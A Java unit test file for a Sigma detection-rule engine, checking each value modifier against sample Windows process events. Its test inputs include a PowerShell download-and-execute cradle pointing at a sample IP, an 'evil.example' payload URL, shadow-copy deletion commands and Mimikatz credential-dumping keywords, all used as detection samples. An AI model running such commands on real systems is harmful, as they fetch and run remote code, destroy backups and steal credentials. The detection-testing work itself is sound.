package io.helklab.detection.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.helklab.detection.EventView;
import io.helklab.detection.MapEvent;
import io.helklab.detection.RuleReport;
import io.helklab.detection.RuleStatus;
import io.helklab.detection.Rules;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Each value modifier of the specification's modifiers appendix, with its examples where it gives them. */
class ModifierTest {

    private static MapEvent process(String field, String value) {
        return MapEvent.sysmon(1).with(field, value);
    }

    /** Asserts the expected result through the rule index and by direct evaluation. */
    private static void check(String detection, EventView event, boolean expected) {
        assertThat(Rules.matches(detection, event)).as("indexed: %s on %s", detection, event).isEqualTo(expected);
        assertThat(Rules.matchesDirectly(detection, event)).as("direct: %s", detection).isEqualTo(expected);
    }

    @Test
    void plainValuesMatchTheWholeValueIgnoringCase() {
        String detection = "selection:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\ncondition: selection";
        check(detection, process("Image", "c:\\windows\\system32\\CMD.EXE"), true);
        check(detection, process("Image", "C:\\Windows\\System32\\cmd.exe.bak"), false);
        check(detection, MapEvent.sysmon(1), false);
    }

    @Test
    void containsStartswithEndswithPlaceTheWildcards() {
        check("s:\n    CommandLine|contains: ' -nop '\ncondition: s", process("CommandLine", "powershell -NoProfile"),
                false);
        check("s:\n    CommandLine|contains: ' -nop '\ncondition: s", process("CommandLine", "powershell -NoP -w"), true);
        check("s:\n    Image|endswith: '\\cmd.exe'\ncondition: s", process("Image", "C:\\x\\CMD.exe"), true);
        check("s:\n    Image|endswith: '\\cmd.exe'\ncondition: s", process("Image", "C:\\x\\cmd.exe2"), false);
        check("s:\n    Image|startswith: 'C:\\Users\\'\ncondition: s", process("Image", "c:\\users\\a\\b.exe"), true);
        check("s:\n    Image|startswith: 'C:\\Users\\'\ncondition: s", process("Image", "d:\\c:\\users\\b.exe"), false);
    }

    @Test
    void listsAreOrAndAllMakesThemAnd() {
        String any = "s:\n    CommandLine|contains:\n        - 'vssadmin'\n        - 'wbadmin'\ncondition: s";
        check(any, process("CommandLine", "wbadmin delete catalog"), true);
        String all = "s:\n    CommandLine|contains|all:\n        - 'vssadmin'\n        - 'delete'\ncondition: s";
        check(all, process("CommandLine", "vssadmin delete shadows"), true);
        check(all, process("CommandLine", "vssadmin list shadows"), false);
    }

    @Test
    void regexIsCaseSensitiveUnlessI() {
        check("s:\n    CommandLine|re: '-e(nc)?\\s+[A-Za-z0-9+/=]{20,}'\ncondition: s",
                process("CommandLine", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"), true);
        check("s:\n    CommandLine|re: 'Invoke-'\ncondition: s", process("CommandLine", "invoke-expression"), false);
        check("s:\n    CommandLine|re|i: 'Invoke-'\ncondition: s", process("CommandLine", "invoke-expression"), true);
    }

    @Test
    void regexMultilineAndDotAll() {
        MapEvent event = process("ScriptBlockText", "first line\nsecond line");
        check("s:\n    ScriptBlockText|re: '^second'\ncondition: s", event, false);
        check("s:\n    ScriptBlockText|re|m: '^second'\ncondition: s", event, true);
        check("s:\n    ScriptBlockText|re: 'first.second'\ncondition: s", event, false);
        check("s:\n    ScriptBlockText|re|s: 'first.line.second'\ncondition: s", event, true);
    }

    @Test
    void regexIsLinearOnInputBuiltToBacktrack() {
        String detection = "s:\n    CommandLine|re: '^(a+)+$'\ncondition: s";
        String hostile = "a".repeat(100_000) + "!";
        check(detection, process("CommandLine", hostile), false);
        check(detection, process("CommandLine", "aaaa"), true);
    }

    @Test
    void base64EncodesTheValue() {
        String encoded = Base64.getEncoder().encodeToString("http://".getBytes(StandardCharsets.UTF_8));
        check("s:\n    CommandLine|base64: 'http://'\ncondition: s", process("CommandLine", encoded), true);
        check("s:\n    CommandLine|base64|contains: 'http://'\ncondition: s",
                process("CommandLine", "x " + encoded + " y"), true);
        check("s:\n    CommandLine|base64|contains: 'http://'\ncondition: s",
                process("CommandLine", "x " + encoded.toLowerCase() + " y"), false);
    }

    @Test
    void base64offsetFindsTheValueAtEveryByteOffset() {
        for (String prefix : List.of("", "a", "ab", "abc", "Invoke-WebRequest ")) {
            String script = prefix + "http://evil.example/payload";
            String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_8));
            check("s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s",
                    process("CommandLine", "powershell -enc " + encoded), true);
        }
        String other = Base64.getEncoder().encodeToString("https-less text".getBytes(StandardCharsets.UTF_8));
        check("s:\n    CommandLine|base64offset|contains: 'http://'\ncondition: s", process("CommandLine", other),
                false);
    }

    @Test
    void base64offsetMatchesTheSpecificationsShiftedRenderings() {
        // The three stable cores of 'http://' at offsets 0, 1 and 2, as pySigma and the spec's examples give them.
        assertThat(ValueCompiler.base64Offsets("http://".getBytes(StandardCharsets.UTF_8)))
                .containsExactly("aHR0cDovL", "h0dHA6Ly", "odHRwOi8v");
    }

    @Test
    void utf16EncodingsFromTheSpecification() {
        // utf16le: cmd > 63 00 6d 00 64 00; utf16be: 00 63 00 6d 00 64; utf16: FF FE 63 00 6d 00 64 00
        String le = Base64.getEncoder().encodeToString(new byte[] {0x63, 0, 0x6d, 0, 0x64, 0});
        String be = Base64.getEncoder().encodeToString(new byte[] {0, 0x63, 0, 0x6d, 0, 0x64});
        String bom = Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0});
        check("s:\n    Payload|utf16le|base64: 'cmd'\ncondition: s", process("Payload", le), true);
        check("s:\n    Payload|wide|base64: 'cmd'\ncondition: s", process("Payload", le), true);
        check("s:\n    Payload|utf16be|base64: 'cmd'\ncondition: s", process("Payload", be), true);
        check("s:\n    Payload|utf16|base64: 'cmd'\ncondition: s", process("Payload", bom), true);
        check("s:\n    Payload|utf16be|base64: 'cmd'\ncondition: s", process("Payload", le), false);
    }

    @Test
    void wideBase64offsetFindsPowerShellEncodedCommands() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        check("s:\n    CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: s",
                process("CommandLine", "powershell.exe -nop -enc " + encoded), true);
        check("s:\n    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: s",
                process("CommandLine", "powershell.exe -nop -enc " + encoded), false);
    }

    @Test
    void windashAcceptsEveryDashCharacterForASwitch() {
        String detection = "s:\n    CommandLine|windash|contains: ' -exec bypass'\ncondition: s";
        for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            check(detection, process("CommandLine", "powershell " + dash + "exec bypass"), true);
        }
        check(detection, process("CommandLine", "powershell +exec bypass"), false);
        // A dash inside a word is not a switch: 'a-b' stays literal.
        check("s:\n    CommandLine|windash|contains: 'a-b'\ncondition: s", process("CommandLine", "a/b"), false);
    }

    @Test
    void cidrMatchesIpv4AndIpv6Networks() {
        String v4 = "s:\n    DestinationIp|cidr: 10.0.0.0/8\ncondition: s";
        check(v4, process("DestinationIp", "10.20.30.40"), true);
        check(v4, process("DestinationIp", "11.0.0.1"), false);
        check(v4, process("DestinationIp", "not an address"), false);
        String list = "s:\n    DestinationIp|cidr:\n        - 192.168.0.0/16\n        - 172.16.0.0/12\ncondition: s";
        check(list, process("DestinationIp", "172.31.255.255"), true);
        check(list, process("DestinationIp", "172.32.0.0"), false);
        String v6 = "s:\n    DestinationIp|cidr: 'fe80::/10'\ncondition: s";
        check(v6, process("DestinationIp", "fe80::1c2d:3e4f"), true);
        check(v6, process("DestinationIp", "2001:db8::1"), false);
        check("s:\n    DestinationIp|cidr: '::ffff:0:0/96'\ncondition: s", process("DestinationIp", "::ffff:192.0.2.1"),
                true);
    }

    @Test
    void existsChecksPresenceOnly() {
        check("s:\n    PasswordLastSet|exists: true\ncondition: s", process("PasswordLastSet", ""), true);
        check("s:\n    PasswordLastSet|exists: true\ncondition: s", MapEvent.sysmon(1), false);
        check("s:\n    PasswordLastSet|exists: false\ncondition: s", MapEvent.sysmon(1), true);
    }

    @Test
    void nullMeansTheFieldIsAbsentAndEmptyStringMeansEmpty() {
        check("s:\n    PasswordLastSet: null\ncondition: s", MapEvent.sysmon(1), true);
        check("s:\n    PasswordLastSet: null\ncondition: s", process("PasswordLastSet", "x"), false);
        check("s:\n    Description: ''\ncondition: s", process("Description", ""), true);
        check("s:\n    Description: ''\ncondition: s", process("Description", "x"), false);
    }

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        MapEvent same = process("Image", "C:\\a.exe").with("ParentImage", "c:\\A.EXE");
        MapEvent different = process("Image", "C:\\a.exe").with("ParentImage", "C:\\b.exe");
        check("s:\n    Image|fieldref: ParentImage\ncondition: s", same, true);
        check("s:\n    Image|fieldref: ParentImage\ncondition: s", different, false);
        check("s:\n    Image|fieldref|cased: ParentImage\ncondition: s", same, false);
        check("s:\n    CommandLine|fieldref|contains: Image\ncondition: s",
                process("CommandLine", "\"C:\\a.exe\" -x").with("Image", "C:\\a.exe"), true);
    }

    @Test
    void numericComparisons() {
        MapEvent event = process("LogonType", "10");
        check("s:\n    LogonType|lt: 11\ncondition: s", event, true);
        check("s:\n    LogonType|lt: 10\ncondition: s", event, false);
        check("s:\n    LogonType|lte: 10\ncondition: s", event, true);
        check("s:\n    LogonType|gt: 9\ncondition: s", event, true);
        check("s:\n    LogonType|gt: 10\ncondition: s", event, false);
        check("s:\n    LogonType|gte: 10\ncondition: s", event, true);
        check("s:\n    LogonType|gte: 1\ncondition: s", process("LogonType", "ten"), false);
    }

    @Test
    void casedMakesMatchingCaseSensitive() {
        check("s:\n    CommandLine|cased|contains: 'IEX'\ncondition: s", process("CommandLine", "x IEX y"), true);
        check("s:\n    CommandLine|cased|contains: 'IEX'\ncondition: s", process("CommandLine", "x iex y"), false);
    }

    @Test
    void neqMatchesDifferentValues() {
        check("s:\n    IntegrityLevel|neq: 'System'\ncondition: s", process("IntegrityLevel", "High"), true);
        check("s:\n    IntegrityLevel|neq: 'System'\ncondition: s", process("IntegrityLevel", "system"), false);
    }

    @Test
    void numbersMatchAsTextOrInteger() {
        check("s:\n    GrantedAccess: 0x1fffff\ncondition: s", process("GrantedAccess", "0x1FFFFF"), true);
        check("s:\n    LogonType: 3\ncondition: s", process("LogonType", "3"), true);
        check("s:\n    LogonType: 3\ncondition: s", process("LogonType", "33"), false);
    }

    @Test
    void expandUsesPlaceholderValues() {
        String yaml = Rules.processCreation("s:\n    User|expand: '%Administrators%'\ncondition: s");
        Placeholders admins = name -> name.equals("Administrators") ? List.of("HELK\\admin*", "HELK\\root") : null;
        var engine = Rules.load(yaml, admins).engine();
        assertThat(engine.evaluate(process("User", "helk\\administrator"))).hasSize(1);
        assertThat(engine.evaluate(process("User", "HELK\\root"))).hasSize(1);
        assertThat(engine.evaluate(process("User", "HELK\\bchen"))).isEmpty();
    }

    @Test
    void expandWithoutPlaceholderValuesIsUnsupportedNamingThePlaceholderAndLine() {
        RuleReport report = Rules.report(Rules.processCreation("s:\n    User|expand: '%Administrators%'\ncondition: s"));
        assertThat(report.status()).isEqualTo(RuleStatus.UNSUPPORTED);
        assertThat(report.reason()).contains("%Administrators%").contains("line 8").contains("placeholders.yml");
    }

    @Test
    void percentWithoutExpandIsLiteral() {
        check("s:\n    CommandLine: '%name%'\ncondition: s", process("CommandLine", "%NAME%"), true);
    }

    @Test
    void unknownModifierIsAnErrorWithItsLine() {
        RuleReport report = Rules.report(Rules.processCreation("s:\n    Image|endwith: 'x'\ncondition: s"));
        assertThat(report.status()).isEqualTo(RuleStatus.ERROR);
        assertThat(report.reason()).contains("unknown modifier 'endwith'").contains("line 8");
    }

    @Test
    void timeModifiersAreUnsupported() {
        RuleReport report = Rules.report(Rules.processCreation("s:\n    UtcTime|hour: 3\ncondition: s"));
        assertThat(report.status()).isEqualTo(RuleStatus.UNSUPPORTED);
        assertThat(report.category()).isEqualTo("modifier hour");
    }

    @Test
    void regexThatDoesNotCompileIsAnErrorAndLookaroundIsUnsupported() {
        RuleReport invalid = Rules.report(Rules.processCreation("s:\n    CommandLine|re: '([a-z'\ncondition: s"));
        assertThat(invalid.status()).isEqualTo(RuleStatus.ERROR);
        assertThat(invalid.reason()).contains("does not compile").contains("line 8");
        RuleReport lookahead = Rules.report(Rules.processCreation("s:\n    CommandLine|re: 'a(?!b)'\ncondition: s"));
        assertThat(lookahead.status()).isEqualTo(RuleStatus.UNSUPPORTED);
        assertThat(lookahead.category()).isEqualTo("regex lookaround or backreference");
    }

    @Test
    void keywordListsSearchEveryValue() {
        String detection = "keywords:\n    - 'mimikatz'\n    - 'sekurlsa::'\ncondition: keywords";
        check(detection, process("CommandLine", "x sekurlsa::logonpasswords"), true);
        check(detection, process("Description", "MIMIKATZ tool"), true);
        check(detection, process("CommandLine", "notepad"), false);
        String all = "keywords:\n    '|all':\n        - 'OabVirtualDirectory'\n        - ' -ExternalUrl '\ncondition: keywords";
        check(all, process("Payload", "Set-OabVirtualDirectory -ExternalUrl http://x"), true);
        check(all, process("Payload", "Set-OabVirtualDirectory"), false);
    }

    @Test
    void listOfMapsIsOr() {
        String detection = """
                selection:
                    - Image|endswith: '\\example.exe'
                    - Description|contains: 'Test executable'
                condition: selection""";
        check(detection, process("Image", "C:\\example.exe"), true);
        check(detection, process("Description", "A test executable file"), true);
        check(detection, process("Image", "C:\\other.exe"), false);
    }

    @Test
    void modifiersOnEveryValueOfAList() {
        Map<String, Boolean> cases = Map.of("C:\\Temp\\a.ps1", true, "C:\\Temp\\a.txt", false, "D:\\x.bat", true);
        cases.forEach((value, expected) -> check(
                "s:\n    TargetFilename|endswith:\n        - '.ps1'\n        - '.bat'\ncondition: s",
                process("TargetFilename", value), expected));
    }
}
